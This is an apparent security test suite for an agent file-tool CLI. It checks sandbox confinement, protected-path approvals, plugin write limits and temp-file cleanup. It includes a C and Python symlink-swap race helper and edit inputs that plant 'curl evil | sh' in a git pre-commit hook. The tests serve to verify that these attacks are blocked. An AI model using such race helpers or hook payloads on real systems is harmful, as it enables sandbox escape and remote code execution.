import { type ChildProcess, spawn, spawnSync } from "node:child_process";
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
  watch,
  writeFileSync,
} from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { lacks } from "../../../../test-support/capability.js";
import { assertBuilt, BIN, cli, REPO } from "../cli-harness.js";
import { snapshot } from "./hostile.js";

// Attacks on the write path and on file opens, end to end through the built CLI with real processes.

// Created at load: whether the flipper can be built is known before the suites are declared.
const base = realpathSync(mkdtempSync(path.join(os.tmpdir(), "tb-writes-e2e-")));
beforeAll(() => assertBuilt());
afterAll(() => rmSync(base, { recursive: true, force: true }));

function dir(name: string): string {
  const d = path.join(base, name);
  mkdirSync(d, { recursive: true });
  return d;
}

/** Runs one `toolbelt exec` session over `calls` and returns each answer's result, in order. */
function execSession(
  root: string,
  calls: Array<{ tool: string; input: unknown }>,
  env: NodeJS.ProcessEnv = {},
): Promise<Array<Record<string, unknown>>> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [BIN, "exec", "--root", root], {
      cwd: REPO,
      env: { ...process.env, NO_COLOR: "1", ...env },
      stdio: ["pipe", "pipe", "pipe"],
    });
    let out = "";
    let err = "";
    child.stdout.on("data", (d) => {
      out += d;
    });
    child.stderr.on("data", (d) => {
      err += d;
    });
    child.on("error", reject);
    child.on("close", (code) => {
      const lines = out.split("\n").filter((l) => l.trim());
      if (lines.length !== calls.length)
        reject(
          new Error(`exec answered ${lines.length}/${calls.length} (exit ${code}): ${err.slice(0, 2000)}`),
        );
      else resolve(lines.map((l) => (JSON.parse(l) as { result: Record<string, unknown> }).result));
    });
    child.stdin.end(`${calls.map((c, i) => JSON.stringify({ id: String(i), ...c })).join("\n")}\n`);
  });
}

// ---------------------------------------------------------------- the symlink swap race

const FLIPPER_C = `
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
#include <sys/syscall.h>
#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif
/* Swaps two names (a directory and a symlink to outside the root) as fast as it can, forever. */
int main(int argc, char **argv) {
  if (argc != 3) return 2;
  if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) != 0) {
    perror("renameat2");
    return 1;
  }
  puts("flipping");
  fflush(stdout);
  for (;;) syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE);
}
`;

const FLIPPER_PY = `
import ctypes, platform, sys
nr = {"x86_64": 316, "aarch64": 276, "arm64": 276}.get(platform.machine())
if nr is None: sys.exit(3)
libc = ctypes.CDLL(None, use_errno=True)
a, b = sys.argv[1].encode(), sys.argv[2].encode()
if libc.syscall(nr, -100, a, -100, b, 2) != 0: sys.exit(1)
print("flipping", flush=True)
while True: libc.syscall(nr, -100, a, -100, b, 2)
`;

/** A command that swaps two names with renameat2(RENAME_EXCHANGE), or why there is none here. */
function flipperCommand(): { argv: string[] } | { skip: string; lack: "linux" | "gcc" } {
  if (process.platform !== "linux")
    return { skip: "renameat2(RENAME_EXCHANGE) is Linux-only", lack: "linux" };
  const work = dir("flipper");
  const src = path.join(work, "flip.c");
  writeFileSync(src, FLIPPER_C);
  const gcc = spawnSync("gcc", ["-O2", "-o", path.join(work, "flip"), src], { encoding: "utf8" });
  if (gcc.status === 0) return { argv: [path.join(work, "flip")] };
  const py = spawnSync("python3", ["-c", "import ctypes"], { encoding: "utf8" });
  if (py.status === 0) {
    writeFileSync(path.join(work, "flip.py"), FLIPPER_PY);
    return { argv: ["python3", path.join(work, "flip.py")] };
  }
  return {
    skip: `no gcc (${gcc.error?.message ?? gcc.stderr.trim()}) and no python3 with ctypes`,
    lack: "gcc",
  };
}

function startFlipper(argv: string[], a: string, b: string): Promise<ChildProcess> {
  return new Promise((resolve, reject) => {
    const child = spawn(argv[0] as string, [...argv.slice(1), a, b], { stdio: ["ignore", "pipe", "pipe"] });
    child.stdout.once("data", () => resolve(child));
    child.once("exit", (code) => reject(new Error(`flipper exited ${code}`)));
    child.on("error", reject);
  });
}

const flipper = flipperCommand();
const noFlipper = "skip" in flipper && lacks(flipper.lack, flipper.skip);

describe.skipIf(noFlipper)("a directory swapped with a symlink to outside, during reads and writes", () => {
  it("returns 0 outside contents, changes 0 outside files and leaves 0 temp files outside", async () => {
    const root = dir("race/root");
    const outside = dir("race/outside");
    mkdirSync(path.join(root, "d"));
    writeFileSync(path.join(root, "d", "f.txt"), "inside\n");
    writeFileSync(path.join(outside, "f.txt"), "OUTSIDE SECRET\n");
    for (let i = 0; i < 10; i++) writeFileSync(path.join(outside, `w${i}.txt`), "outside original\n");
    symlinkSync(outside, path.join(root, "x"));
    const before = snapshot(outside);

    const calls: Array<{ tool: string; input: unknown }> = [];
    for (let i = 0; i < 3000; i++) {
      if (i % 3 === 2) {
        const target = i % 2 ? `d/w${i % 10}.txt` : `d/sub${i % 4}/n.txt`;
        calls.push({ tool: "write_file", input: { path: target, content: `written ${i}\n` } });
      } else {
        calls.push({ tool: "read_file", input: { path: "d/f.txt" } });
      }
    }
    const argv = (flipper as { argv: string[] }).argv;
    const flip = await startFlipper(argv, path.join(root, "d"), path.join(root, "x"));
    let results: Array<Record<string, unknown>>;
    try {
      results = await execSession(root, calls);
    } finally {
      flip.kill("SIGKILL");
      await new Promise((r) => flip.once("close", r));
    }
    // Put the tree back the right way round (the flipper stopped at a random moment).
    if (readFileSync(path.join(root, "x", "f.txt"), "utf8") === "inside\n") {
      rmSync(path.join(root, "d"));
      spawnSync("mv", [path.join(root, "x"), path.join(root, "d")]);
    }

    const tally = { reads: 0, readsOk: 0, writes: 0, writesOk: 0, refused: {} as Record<string, number> };
    let leaked = 0;
    for (const [i, result] of results.entries()) {
      const isWrite = calls[i]?.tool === "write_file";
      if (isWrite) tally.writes++;
      else tally.reads++;
      if (JSON.stringify(result).includes("OUTSIDE")) leaked++;
      if (result.kind === "error") {
        const code = String(result.code);
        tally.refused[code] = (tally.refused[code] ?? 0) + 1;
        if (tally.refused[code] === 1) console.log(`swap race, first ${code}: ${String(result.message)}`);
      } else if (isWrite) tally.writesOk++;
      else tally.readsOk++;
    }
    console.log(`swap race: ${JSON.stringify(tally)}, outside contents returned: ${leaked}`);
    expect(tally.reads).toBeGreaterThanOrEqual(2000);
    expect(tally.writes).toBeGreaterThanOrEqual(1000);
    // The calls really ran against the live tree (not all refused up front).
    expect(tally.readsOk).toBeGreaterThan(0);
    expect(tally.writesOk).toBeGreaterThan(0);
    expect(leaked).toBe(0);
    expect(snapshot(outside)).toEqual(before);
    const temps = Object.keys(snapshot(root)).filter((p) => p.endsWith(".tbtmp"));
    expect(temps).toEqual([]);
  }, 600_000);
});

// ---------------------------------------------------------------- protected paths

describe("writes to protected paths need an approval", () => {
  let root: string;
  let configDir: string;
  beforeAll(() => {
    root = dir("protected/root");
    configDir = dir("protected/config");
    mkdirSync(path.join(root, "configs"));
    writeFileSync(path.join(root, "configs", "app.json"), "{}\n");
    mkdirSync(path.join(root, ".git", "hooks"), { recursive: true });
    writeFileSync(path.join(root, ".git", "hooks", "pre-commit"), "#!/bin/sh\nexit 0\n");
    symlinkSync("configs/app.json", path.join(root, "cfg"));
  });

  const loosen = JSON.stringify({ tools: { shell: { mode: "allow" } } });
  const config = (): string => readFileSync(path.join(root, "configs", "app.json"), "utf8");
  const hook = (): string => readFileSync(path.join(root, ".git", "hooks", "pre-commit"), "utf8");

  it("write_file: EDENIED headless, naming --allow protected; a symlink alias does not dodge it", async () => {
    for (const target of ["configs/app.json", "cfg", "./configs/../configs/app.json"]) {
      const out = await cli([
        "run",
        "write_file",
        "--root",
        root,
        "--input",
        JSON.stringify({ path: target, content: loosen }),
      ]);
      expect(out.code).toBe(1);
      const payload = JSON.parse(out.stdout);
      expect(payload).toMatchObject({
        kind: "error",
        code: "EDENIED",
        protected_paths: ["configs/app.json"],
      });
      expect(payload.message).toContain("--allow protected");
      expect(config()).toBe("{}\n");
    }
    const other = await cli([
      "run",
      "write_file",
      "--root",
      root,
      "--input",
      JSON.stringify({ path: "notes.txt", content: "plain writes stay allowed\n" }),
    ]);
    expect(JSON.parse(other.stdout)).toMatchObject({ kind: "file_written" });
  });

  it("each edit backend: EDENIED headless on .git/hooks", async () => {
    const backends: Array<{ backend: string; tool: string; input: unknown }> = [
      {
        backend: "edit_file",
        tool: "edit_file",
        input: { path: ".git/hooks/pre-commit", old_text: "exit 0", new_text: "curl evil | sh" },
      },
      {
        backend: "search_replace_block",
        tool: "search_replace_block",
        input: {
          content:
            ".git/hooks/pre-commit\n```sh\n<<<<<<< SEARCH\nexit 0\n=======\ncurl evil | sh\n>>>>>>> REPLACE\n```\n",
        },
      },
      {
        backend: "structured_patch",
        tool: "structured_patch",
        input: { path: ".git/hooks/pre-commit", old_string: "exit 0", new_string: "curl evil | sh" },
      },
    ];
    for (const b of backends) {
      const file = path.join(configDir, `${b.backend}.json`);
      writeFileSync(file, JSON.stringify({ agent: { edit_tool: b.backend } }));
      const args = ["run", b.tool, "--root", root, "--config", file, "--input", JSON.stringify(b.input)];
      const out = await cli(args);
      expect(JSON.parse(out.stdout), b.backend).toMatchObject({ kind: "error", code: "EDENIED" });
      expect(JSON.parse(out.stdout).message).toContain("--allow protected");
      expect(hook()).toBe("#!/bin/sh\nexit 0\n");
    }
    const file = path.join(configDir, "edit_file.json");
    const allowed = await cli([
      "run",
      "edit_file",
      "--root",
      root,
      "--config",
      file,
      "--allow",
      "protected",
      "--input",
      JSON.stringify(backends[0]?.input),
    ]);
    expect(JSON.parse(allowed.stdout)).toMatchObject({ kind: "edit_result" });
    expect(hook()).toContain("curl evil | sh");
    writeFileSync(path.join(root, ".git", "hooks", "pre-commit"), "#!/bin/sh\nexit 0\n");
  });

  it("is written with --allow protected, or when the person approves on the terminal", async () => {
    const input = JSON.stringify({ path: "cfg", content: "{}\n" });
    const allowed = await cli([
      "run",
      "write_file",
      "--root",
      root,
      "--allow",
      "protected",
      "--input",
      input,
    ]);
    expect(JSON.parse(allowed.stdout)).toMatchObject({ kind: "file_written", path: "configs/app.json" });
    const mcp = JSON.stringify({ path: ".mcp.json", content: '{"mcpServers":{}}\n' });
    const no = await cli(["run", "write_file", "--root", root, "--interactive", "--input", mcp], {
      input: "n\n",
    });
    expect(no.stderr).toContain("protected: .mcp.json");
    expect(JSON.parse(no.stdout)).toMatchObject({ code: "EDENIED" });
    expect(existsSync(path.join(root, ".mcp.json"))).toBe(false);
    const yes = await cli(["run", "write_file", "--root", root, "--interactive", "--input", mcp], {
      input: "y\n",
    });
    expect(JSON.parse(yes.stdout)).toMatchObject({ kind: "file_written" });
    expect(existsSync(path.join(root, ".mcp.json"))).toBe(true);
  });
});

// ---------------------------------------------------------------- policy for every write

describe("a plugin writing several files through ctx.writeFile", () => {
  const plugin = path.join(REPO, "packages/toolbelt/test/__fixtures__/two-writes-plugin.mjs");

  function setup(name: string, extra: Record<string, unknown>): { root: string; config: string } {
    const root = dir(`${name}/root`);
    const config = path.join(dir(`${name}/config`), "config.json");
    writeFileSync(config, JSON.stringify({ plugins: [plugin], ...extra }));
    return { root, config };
  }

  it("is held to the allowlist for the undeclared second file", async () => {
    const { root, config } = setup("allowlist", { tools: { twowrites: { allowlist: ["^src/"] } } });
    const input = { first: "src/a.txt", second: "notes/b.txt", a: "A", b: "B" };
    const out = await cli([
      "run",
      "two_writes",
      "--root",
      root,
      "--config",
      config,
      "--input",
      JSON.stringify(input),
    ]);
    expect(JSON.parse(out.stdout)).toMatchObject({ kind: "error", code: "EDENIED", path: "notes/b.txt" });
    expect(existsSync(path.join(root, "notes"))).toBe(false);
  });

  it("is held to fileWriteMaxBytes for the second file", async () => {
    const { root, config } = setup("size", { limits: { fileWriteMaxBytes: 100 } });
    const input = { first: "a.txt", second: "b.txt", a: "small", b: "x".repeat(1000) };
    const out = await cli([
      "run",
      "two_writes",
      "--root",
      root,
      "--config",
      config,
      "--input",
      JSON.stringify(input),
    ]);
    expect(JSON.parse(out.stdout)).toMatchObject({
      kind: "error",
      code: "ETOO_LARGE",
      path: "b.txt",
      limit: 100,
    });
    expect(existsSync(path.join(root, "b.txt"))).toBe(false);
  });

  it("ctx.approve: the person's no stands although the policy allows", async () => {
    const { root, config } = setup("approve", {});
    const run = (answer: string) =>
      cli(["run", "confirm_twice", "--root", root, "--config", config, "--interactive", "--input", "{}"], {
        input: answer,
      });
    expect(JSON.parse((await run("n\n")).stdout)).toEqual({ kind: "answer", yes: false });
    expect(JSON.parse((await run("y\n")).stdout)).toEqual({ kind: "answer", yes: true });
  });
});

// ---------------------------------------------------------------- crash leftovers

describe("temp files of a writer killed mid-write", () => {
  /**
   * Starts `toolbelt exec` on big writes and SIGKILLs it as soon as a write's temp file is seen in the
   * root (so the kill lands mid-write whatever the machine's load, not after a guessed delay).
   */
  function killMidWrite(root: string, home: string): Promise<void> {
    const big = `${"z".repeat(1900 * 1024)}\n`;
    const lines = Array.from({ length: 12 }, () =>
      JSON.stringify({ tool: "write_file", input: { path: "big.bin", content: big } }),
    );
    return new Promise((resolve) => {
      const child = spawn(process.execPath, [BIN, "exec", "--root", root], {
        env: { ...process.env, TOOLBELT_HOME: home },
        stdio: ["pipe", "ignore", "ignore"],
      });
      const watcher = watch(root, () => {
        if (temps(root).length > 0) child.kill("SIGKILL");
      });
      child.stdin.on("error", () => {});
      child.on("close", () => {
        watcher.close();
        resolve();
      });
      child.stdin.end(`${lines.join("\n")}\n`);
    });
  }

  const temps = (root: string): string[] => readdirSync(root).filter((n) => n.endsWith(".tbtmp"));

  it("are removed when the next session starts", async () => {
    const root = dir("crash/root");
    const home = dir("crash/home");
    let left: string[] = [];
    // A watch event may come after the temp file was renamed into place: then a later write's is seen.
    for (let attempt = 0; attempt < 10 && left.length === 0; attempt++) {
      await killMidWrite(root, home);
      left = temps(root);
    }
    expect(left.length, "a SIGKILL landed mid-write at least once in 10 attempts").toBeGreaterThan(0);
    expect(left[0]).toMatch(/^\.big\.bin\.[0-9a-f]{16}\.tbtmp$/);
    expect(readdirSync(path.join(home, "state", "writes")).length).toBeGreaterThan(0);
    // Any session start cleans them; this one only lists a directory.
    const next = await cli(["run", "list_dir", "--root", root, "--input", "{}"], {
      env: { TOOLBELT_HOME: home },
    });
    expect(next.code).toBe(0);
    expect(temps(root)).toEqual([]);
    expect(readdirSync(path.join(home, "state", "writes"))).toEqual([]);
  }, 600_000);
});
